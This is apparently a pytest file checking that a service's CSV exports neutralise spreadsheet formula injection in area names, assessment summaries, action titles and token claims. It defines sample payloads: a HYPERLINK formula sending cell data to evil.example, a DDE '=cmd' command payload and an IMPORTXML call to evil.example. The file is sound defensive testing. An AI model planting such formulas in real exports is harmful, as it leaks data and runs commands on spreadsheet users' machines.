"""CSV answers never hand a spreadsheet a formula: what a partner or a token claim wrote stays text."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from domain.weeks import week_of
from service.web.csv import spreadsheet_safe
from tests.integration.api.conftest import Client, Token
from tests.support.read_log import flush, new_tenant

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
CALC = "=cmd|' /C calc'!A0"
IMPORT = '=IMPORTXML("http://evil.example/","//a")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+46", "'+46"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Råslätt", "Råslätt"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (12, 12),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_becomes_text(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


def _table(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


async def _weekly_csv(client: Client, headers: dict[str, str], week: str, position: int) -> dict[str, dict[str, str]]:
    response = await client.get(
        f"/api/v1/lagesbild/{week}", params={"min_position": position}, headers=headers | {"Accept": "text/csv"}
    )
    assert response.status_code == 200, response.text
    return {row["area_code"]: row for row in _table(response.content)}


async def test_the_weekly_lagesbild_as_csv_neutralises_names_titles_and_summaries(client: Client, auth: Token) -> None:
    coordinator = auth("coordinator", org="kommunen")
    code = f"f-{uuid.uuid4().hex[:8]}"
    area = await client.post("/api/v1/areas", json={"code": code, "name": IMPORT}, headers=auth("admin"))
    assert area.status_code == 201, area.text
    area_id = area.json()["id"]
    draft = {"level": "red", "summary": HYPERLINK}
    assert (
        await client.put(f"/api/v1/areas/{area_id}/assessments/2026-W48", json=draft, headers=coordinator)
    ).is_success
    published = await client.post(f"/api/v1/areas/{area_id}/assessments/2026-W48/publication", headers=coordinator)
    assert published.status_code == 200, published.text
    action = {"area_id": area_id, "title": CALC, "responsible_org": "kommunen"}
    planned = await client.post("/api/v1/actions", json=action, headers=coordinator)
    assert planned.status_code == 201, planned.text
    started = await client.post(
        f"/api/v1/actions/{planned.json()['id']}/status", json={"status": "started"}, headers=coordinator
    )
    assert started.status_code == 200, started.text
    position = started.json()["position"]

    assessed = (await _weekly_csv(client, coordinator, "2026-W48", position))[code]
    assert (assessed["area"], assessed["summary"]) == ("'" + IMPORT, "'" + HYPERLINK)
    this_week = week_of(datetime.now(UTC))  # actions are dated by when they were recorded
    assert (await _weekly_csv(client, coordinator, this_week, position))[code]["actions_started"] == "'" + CALC
    # The JSON keeps what was written: only the spreadsheet's copy is made safe.
    weekly = (await client.get("/api/v1/lagesbild/2026-W48", headers=coordinator)).json()
    assert next(a for a in weekly["areas"] if a["area"]["code"] == code)["assessment"]["summary"] == HYPERLINK


async def test_the_read_logs_csv_neutralises_claims_from_tokens(client: Client, auth: Token) -> None:
    tenant = new_tenant()
    reader = auth("reporter", org="@kommun", tenant=tenant, sub="=1+2")
    assert (await client.get("/api/v1/picture", headers=reader)).status_code == 200
    await flush(client)
    response = await client.get(
        "/api/v1/audit/reads",
        params={"resource": "overview"},
        headers=auth("auditor", tenant=tenant, sub="revisor") | {"Accept": "text/csv"},
    )
    [row] = _table(response.content)
    assert (row["actor"], row["org"]) == ("'=1+2", "'@kommun")
